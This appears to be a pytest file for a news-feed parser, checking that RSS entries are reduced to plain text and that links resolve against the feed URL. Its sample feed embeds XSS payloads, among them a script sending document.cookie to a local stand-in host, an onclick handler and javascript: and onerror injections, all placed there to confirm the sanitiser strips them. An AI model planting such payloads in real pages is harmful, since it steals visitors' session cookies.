"""Parsing a feed: what reaches the store is plain text, whatever markup the entries carry."""

from __future__ import annotations

from watchdesk.sources.parse import html_to_text, parse_feed

FEED = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
<title>Le &lt;b&gt;Desk&lt;/b&gt;</title><link>/</link>
<item><title>Haftar &lt;em&gt;re\xc3\xa7u&lt;/em&gt; \xc3\xa0 Moscou</title><link>/a/1.html</link>
<guid>a-1</guid>
<description>&lt;p&gt;Le mar\xc3\xa9chal
&lt;a href="/p/haftar" onclick="steal()"&gt;Haftar&lt;/a&gt;
&lt;script&gt;document.location='http://127.0.0.1:9/?c='+document.cookie&lt;/script&gt;
&lt;style&gt;p{display:none}&lt;/style&gt;a \xc3\xa9t\xc3\xa9 re\xc3\xa7u.&lt;/p&gt;</description>
<content:encoded><![CDATA[<div><p>Premier paragraphe.</p>
<iframe src="javascript:alert(1)">cadre</iframe>
<object data="x.swf">objet</object><applet code="A">applet</applet><noscript>ns</noscript>
<template><p>gabarit</p></template><p>Second <img src=x onerror="alert(1)"> paragraphe.</p></div>]]>
</content:encoded></item></channel></rss>"""


def test_entries_are_plain_text_without_scripts_styles_or_embedded_objects() -> None:
    parsed = parse_feed(FEED, {"content-type": "application/rss+xml"},
                        "http://127.0.0.1:8000/feed.xml")
    assert parsed.title == "Le Desk"
    (e,) = parsed.entries
    assert e.title == "Haftar reçu à Moscou"
    assert e.summary == "Le maréchal\nHaftar\n\na été reçu."
    assert e.content == "Premier paragraphe.\n\nSecond paragraphe."
    for text in (e.title, e.summary, e.content):
        for left in ("<", "script", "cookie", "display", "steal", "cadre", "objet", "applet",
                     "ns", "gabarit", "alert"):
            assert left not in text


def test_links_are_resolved_against_the_feed_url() -> None:
    parsed = parse_feed(FEED, {}, "http://127.0.0.1:8000/news/feed.xml")
    assert parsed.link == "http://127.0.0.1:8000/"
    assert parsed.entries[0].link == "http://127.0.0.1:8000/a/1.html"


def test_html_to_text_keeps_paragraphs_apart() -> None:
    assert html_to_text("<p>un</p><p>deux <b>trois</b></p>") == "un\n\ndeux trois"
    assert html_to_text("sans balise") == "sans balise"
    assert html_to_text("") == ""
